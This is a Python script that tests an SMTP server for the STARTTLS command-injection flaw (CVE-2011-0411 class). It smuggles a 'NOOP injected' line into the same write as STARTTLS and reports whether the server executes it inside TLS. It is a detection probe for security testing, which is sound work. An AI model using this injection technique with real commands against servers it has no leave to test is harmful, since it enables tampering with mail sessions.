#!/usr/bin/python3
"""The STARTTLS command-injection probe (CVE-2011-0411 class), with a real
TLS handshake from Python's ssl module.

    /usr/bin/python3 starttls_injection.py HOST PORT CAFILE

Sends "STARTTLS\\r\\nNOOP injected\\r\\n" in one write, completes the TLS
handshake after the 220, then sends EHLO inside TLS. A server that kept the
injected NOOP answers it first ("250 2.0.0 ..."), before the EHLO reply.
Prints one line per reply read inside TLS, then "EHLO-FIRST" or "INJECTED".
"""
import socket
import ssl
import sys


def read_reply(stream):
    """One whole (possibly multi-line) reply, as a list of lines."""
    lines = []
    while True:
        line = stream.readline(4096).decode("utf-8", "replace").rstrip("\r\n")
        if not line:
            raise SystemExit("server closed the connection")
        lines.append(line)
        if len(line) < 4 or line[3] != "-":
            return lines


def main():
    host, port, cafile = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    raw = socket.create_connection((host, port), timeout=30)
    plain = raw.makefile("rb")
    read_reply(plain)
    raw.sendall(b"EHLO probe.example\r\n")
    read_reply(plain)
    raw.sendall(b"STARTTLS\r\nNOOP injected\r\n")
    reply = read_reply(plain)
    if not reply[-1].startswith("220"):
        raise SystemExit("STARTTLS refused: " + reply[-1])
    context = ssl.create_default_context(cafile=cafile)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    stream = tls.makefile("rb")
    tls.sendall(b"EHLO probe.example\r\n")
    first = read_reply(stream)
    print("\n".join(first))
    tls.sendall(b"QUIT\r\n")
    print("EHLO-FIRST" if first[0].startswith("250-") else "INJECTED")


main()
